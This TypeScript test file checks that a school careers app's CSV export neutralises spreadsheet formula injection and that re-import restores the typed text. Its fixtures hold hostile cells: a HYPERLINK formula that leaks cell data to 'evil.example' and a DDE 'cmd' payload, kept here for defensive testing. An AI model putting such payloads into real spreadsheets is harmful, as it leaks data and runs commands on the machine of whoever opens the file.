import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { emptySchoolData, type SchoolData } from '../../src/domain/school';
import { parseSchoolFiles } from '../../src/schooldata/parse-school-files';
import { SCHOOL_FILE_NAMES } from '../../src/schooldata/school-files';
import { writeSchoolFiles } from '../../src/schooldata/write-school-files';

// Text a pupil or teacher typed is exported to the school office's spreadsheet. A cell a
// spreadsheet would run as a formula is written with a leading apostrophe, and the import takes it
// off again, so export then import changes nothing.

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your results")',
  '+44 7700 900123',
  '-2+3',
  '@SUM(A1:A9)',
  "\t=cmd|' /C calc'!A0",
  "'=already quoted",
  "''@twice",
  "'plain apostrophe",
];

const pupil = {
  role: 'pupil' as const,
  send: false,
  pupilPremium: false,
  lookedAfter: false,
  consideringHigherEducation: false,
  subjects: [],
  yearGroup: 10,
};

const typed: SchoolData = {
  ...emptySchoolData(),
  people: [
    { ...pupil, id: 'P1', givenName: '=Ava', familyName: '@Patel', email: 'ava@school.example' },
    {
      id: 'A1',
      role: 'careers_adviser',
      givenName: 'Dan',
      familyName: 'Brooks',
      email: 'dan@school.example',
      send: false,
      pupilPremium: false,
      lookedAfter: false,
      consideringHigherEducation: false,
      subjects: [],
    },
  ],
  activities: [{ id: 'E1', date: '2026-01-15', kind: 'employer_encounter', title: '+Talk', providerAccess: false, meaningful: true }],
  meetings: FORMULAS.map((advice, index) => ({
    id: `M${index}`,
    pupilId: 'P1',
    adviserId: 'A1',
    startsAt: '2026-02-03T09:20',
    status: 'completed' as const,
    advice,
    agreedActions: `-${index}`,
  })),
  destinations: FORMULAS.map((destination, index) => ({
    pupilId: 'P1',
    kind: 'aspiration' as const,
    date: `2026-01-${String(index + 10)}`,
    destination,
  })),
};

describe('cells a spreadsheet would run as a formula', () => {
  const files = writeSchoolFiles(typed);

  it('are never written so that a spreadsheet runs them', () => {
    for (const name of SCHOOL_FILE_NAMES) {
      const cells = (parse(files[name], { relax_column_count: true }) as string[][]).flat();
      for (const cell of cells) expect(cell, `${name}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(files['meetings.csv']).toContain(`,'-0\n`);
  });

  it('include one that starts with a carriage return (imported as a line break, as every line break is)', () => {
    const file = writeSchoolFiles({ ...typed, activities: [{ ...typed.activities[0]!, title: '\r=1+1' }] })['activities.csv'];
    expect(file).toContain(`"'\r=1+1"`);
    const parsed = parseSchoolFiles({ 'activities.csv': file }, emptySchoolData());
    expect(parsed.ok && parsed.data.activities?.[0]?.title).toBe('\n=1+1');
  });

  it('come back exactly as they were when the export is imported', () => {
    const parsed = parseSchoolFiles(files, emptySchoolData());
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
    expect({ ...emptySchoolData(), ...parsed.data }).toEqual(typed);
  });
});
